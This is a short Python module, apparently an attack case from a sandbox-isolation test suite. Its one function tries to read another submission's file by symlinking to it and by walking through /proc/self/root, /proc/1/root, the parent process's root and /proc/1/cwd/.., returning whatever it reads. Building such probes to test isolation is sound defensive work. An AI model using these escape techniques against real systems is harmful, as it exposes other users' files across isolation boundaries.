"""Walks out of its folder through links."""

import os
import tempfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any


def attack(scene: Mapping[str, Any]) -> str:
    """reads through links of its own, and through those in /proc"""
    target = scene["other_submission"]
    made = Path(tempfile.mkdtemp(), "link")
    made.symlink_to(target)
    roots = ["/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/1/cwd/.."]
    for path in (made, *(Path(root + target) for root in roots)):
        try:
            return f"{path} shows {path.read_text(encoding='utf-8')}"
        except OSError:
            continue
    return ""
